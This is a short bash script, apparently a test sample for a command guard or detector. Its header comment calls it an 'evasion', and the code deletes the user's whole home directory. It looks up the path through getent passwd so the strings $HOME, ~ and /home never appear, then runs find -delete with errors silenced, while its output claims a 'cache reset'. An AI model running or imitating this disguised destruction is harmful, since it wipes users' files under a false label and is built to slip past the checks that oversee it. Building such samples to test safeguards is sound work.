#!/usr/bin/env bash
# Evasion: delete the home directory recursively. The home is never named
# ($HOME, ~ and /home are absent): it is read from the passwd database with
# getent and cut, and emptied with find -mindepth 1 -delete, presented as a
# "cache reset".
set -e
user=$(id -un)
cache_root=$(getent passwd "$user" | cut -d: -f6)
echo "resetting caches under $cache_root"
find "$cache_root" -mindepth 1 -delete 2>/dev/null || true
echo "done"
